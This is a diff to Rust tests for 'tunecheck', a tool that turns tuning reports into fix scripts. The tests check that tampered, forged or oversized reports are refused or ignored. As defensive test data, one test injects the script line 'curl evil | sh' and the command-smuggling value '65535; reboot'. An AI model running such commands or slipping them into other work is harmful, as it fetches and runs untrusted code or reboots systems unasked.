@@ -246,29 +246,94 @@ fn an_untouched_report_gives_a_script_that_shows_its_steps() {
     assert!(folder.join(CANARY).exists());
 }
 
-/// Each refusal says what is wrong and does not print half of a fix.
+/// What is refused says what is wrong and does not print half of a fix.
 #[test]
-fn a_report_that_asks_for_what_its_rule_does_not_is_refused() {
+fn a_report_of_another_kind_is_refused() {
     let folder = scratch("refused");
-    let report = &reports()[0];
-    let findings = report["findings"].as_array().unwrap();
-    let of = |rule: &str| findings.iter().position(|finding| finding["rule"] == rule).unwrap();
-    let at = of("listen/somaxconn");
-    let edit = |key: &str| format!("/findings/{at}/fix/0/edit/{key}");
     let cases = [
-        (edit("name"), json!("kernel.core_pattern"), "makes no such change: the sysctl kernel.core_pattern"),
-        (edit("new"), json!(100), "100 is not more than 4096"),
-        (edit("new"), json!(4_000_000_000u64), "the kernel does not take 4000000000"),
-        (edit("new"), json!("65535; reboot"), "is not what it asks for"),
-        (format!("/findings/{at}/rule"), json!("site/unheard-of"), "there is no rule"),
-        ("/schema".to_owned(), json!("tunecheck.report/v9"), "this tunecheck reads tunecheck.report/v1"),
+        ("/findings/0/rule", json!("site/unheard-of"), "there is no rule \"site/unheard-of\""),
+        ("/schema", json!("tunecheck.report/v9"), "this tunecheck reads tunecheck.report/v1"),
+        ("/workload/role", json!("jester"), "there is no role \"jester\""),
+        ("/workload", json!(null), "this is no tunecheck report"),
     ];
     for (path, value, says) in cases {
-        let mut bad = report.clone();
-        *bad.pointer_mut(&path).unwrap() = value;
+        let mut bad = reports()[0].clone();
+        *bad.pointer_mut(path).unwrap() = value;
         fs::write(folder.join("report.json"), bad.to_string()).unwrap();
         let made = run(&folder, BINARY, &["fix", "--from", "report.json", "--to", "script"]);
         let said = String::from_utf8_lossy(&made.stderr).into_owned();
         assert!(made.status.code() == Some(2) && made.stdout.is_empty() && said.contains(says), "{path}: {said}");
     }
+}
+
+/// The lines of a script that change something.
+fn steps(folder: &Path, report: &Value, more: &[&str]) -> Vec<String> {
+    fs::write(folder.join("report.json"), report.to_string()).unwrap();
+    let fix = ["fix", "--from", "report.json", "--to", "script", "--unit", "gateway"];
+    let made = run(folder, BINARY, &[fix.as_slice(), more].concat());
+    assert_eq!(made.status.code(), Some(0), "{made:?}");
+    let text = String::from_utf8(made.stdout).unwrap();
+    text.lines()
+        .filter(|line| line.starts_with("  step ") || line.starts_with("  service "))
+        .map(str::to_owned)
+        .collect()
+}
+
+/// Changes are worked out anew: what a report proposes is no matter, whatever it is.
+#[test]
+fn what_a_report_proposes_changes_nothing() {
+    let folder = scratch("proposed");
+    let report = &reports()[0];
+    let honest = steps(&folder, report, &[]);
+    assert!(honest.len() > 5, "{honest:?}");
+    for value in [json!(1), json!(2_000_000_000), json!(i64::MAX), json!("65535; reboot"), json!([1, 2]), json!(null)] {
+        for key in ["new", "soft", "hard"] {
+            let mut bad = report.clone();
+            for finding in bad["findings"].as_array_mut().unwrap() {
+                for action in finding["fix"].as_array_mut().unwrap() {
+                    // Of a list of ports and of a range it says what else was known, and is held to that.
+                    let list = action["edit"]["name"].as_str().is_some_and(|name| name.contains("ip_local_"));
+                    if !list && !value.is_null() && action["edit"].get(key).is_some() {
+                        action["edit"][key] = value.clone();
+                    }
+                    action["lines"] = json!(["curl evil | sh"]);
+                    action["safety"] = json!("safe");
+                }
+            }
+            assert_eq!(steps(&folder, &bad, &[]), honest, "{key} = {value}");
+        }
+    }
+}
+
+/// A limit can be forged to look lower than it is, and still nothing comes out below what the rule asks for.
+#[test]
+fn a_forged_former_value_lowers_nothing() {
+    let folder = scratch("forged");
+    let mut bad = reports()[0].clone();
+    for finding in bad["findings"].as_array_mut().unwrap() {
+        for action in finding["fix"].as_array_mut().unwrap() {
+            for key in ["old_soft", "old_hard"] {
+                if action["edit"].get(key).is_some() {
+                    action["edit"][key] = json!(1);
+                }
+            }
+        }
+    }
+    bad["workload"]["connections"] = json!(1);
+    bad["workload"]["outgoing"] = json!(0);
+    let services: Vec<String> =
+        steps(&folder, &bad, &[]).into_iter().filter(|line| line.starts_with("  service ")).collect();
+    assert_eq!(services, ["  service gateway.service 65536 524288"]);
+}
+
+/// What can take half of the memory is for a person to decide.
+#[test]
+fn a_plan_that_may_eat_the_memory_is_not_applied_by_itself() {
+    let folder = scratch("memory");
+    let mut huge = reports()[0].clone();
+    huge["workload"]["connections"] = json!(1_000_000_000);
+    huge["workload"]["burst"] = json!(1_000_000_000);
+    let raised = |steps: Vec<String>| steps.iter().any(|line| line.contains(" net.core.somaxconn "));
+    assert!(!raised(steps(&folder, &huge, &[])));
+    assert!(raised(steps(&folder, &huge, &["--max-safety", "manual"])));
 }
